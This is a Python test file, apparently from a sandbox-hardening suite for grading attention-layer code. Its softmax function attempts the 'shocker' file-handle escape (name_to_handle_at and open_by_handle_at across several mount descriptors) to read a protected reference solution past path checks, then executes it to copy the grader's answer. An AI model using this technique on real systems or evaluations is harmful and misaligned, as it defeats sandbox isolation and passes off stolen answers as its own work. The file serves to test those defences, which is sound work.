# ruff: noqa
"""ATTACK hunt_open_by_handle (class: hunting the reference: file handles, past path checks).

Intent: read the reference without opening it by path: name_to_handle_at() gives a
handle for reference/01_attention.py (a path the sandbox may refuse to open, but not to
name), and open_by_handle_at() opens it from the handle with a descriptor of any
directory on the same file system (plain and O_PATH descriptors of /usr, /, /proc, /dev
and the working directory) - the "shocker" escape, open to any process holding
CAP_DAC_READ_SEARCH. If it reads the file, it runs it and softmax returns the
reference's answer; otherwise zeros.

Expected: softmax 0, the rest full marks.
"""

import ctypes
import math
import os

import torch

ATTACK = "hunt_open_by_handle"
TOKEN = "__TOKEN__"
MARK = f"bertlab-attack-{TOKEN}-{ATTACK}"  # in argv of every process it starts
PWNED = f"/tmp/bertlab_pwned_{TOKEN}_{ATTACK}"  # a file it would create outside its sandbox
REPO = "__REPO__"


_libc = ctypes.CDLL(None, use_errno=True)
AT_FDCWD = -100


class _Handle(ctypes.Structure):
    _fields_ = [
        ("handle_bytes", ctypes.c_uint),
        ("handle_type", ctypes.c_int),
        ("f_handle", ctypes.c_ubyte * 128),
    ]


def _read_by_handle(path):
    handle, mount_id = _Handle(), ctypes.c_int()
    handle.handle_bytes = 128
    if _libc.name_to_handle_at(AT_FDCWD, path.encode(), ctypes.byref(handle), ctypes.byref(mount_id), 0) != 0:
        return None
    for where in ("/usr", "/", "/proc", "/dev", ".", os.path.dirname(path)):
        for flags in (os.O_RDONLY | os.O_DIRECTORY, os.O_PATH):
            try:
                mount_fd = os.open(where, flags)
            except OSError:
                continue
            fd = _libc.open_by_handle_at(mount_fd, ctypes.byref(handle), os.O_RDONLY)
            os.close(mount_fd)
            if fd >= 0:
                with os.fdopen(fd, "rb") as f:
                    return f.read().decode(errors="replace")
    return None


def _steal():
    source = _read_by_handle(os.path.join(REPO, "reference", "01_attention.py"))
    if source is None:
        return None
    ns = {"__name__": "stolen"}
    try:
        exec(compile(source, "stolen", "exec"), ns)
    except BaseException:
        return None
    return ns.get("softmax")


def softmax(x, dim=-1):
    stolen = _steal()
    return stolen(x, dim=dim) if callable(stolen) else torch.zeros_like(x)


def scaled_dot_product_attention(q, k, v, mask=None):
    scores = torch.matmul(q, k.transpose(-2, -1)) / math.sqrt(q.size(-1))  # (..., Lq, Lk)
    if mask is not None:
        scores = scores.masked_fill(~mask, -1e9)
    scores = scores - scores.max(dim=-1, keepdim=True).values
    weights = torch.exp(scores)
    weights = weights / weights.sum(dim=-1, keepdim=True)
    return torch.matmul(weights, v), weights


def padding_mask(lengths, max_len):
    positions = torch.arange(max_len, device=lengths.device)
    mask = positions.unsqueeze(0) < lengths.unsqueeze(1)  # (B, max_len)
    return mask.unsqueeze(1).unsqueeze(2)  # (B, 1, 1, max_len)


def causal_mask(L):
    return torch.tril(torch.ones(L, L)).bool()
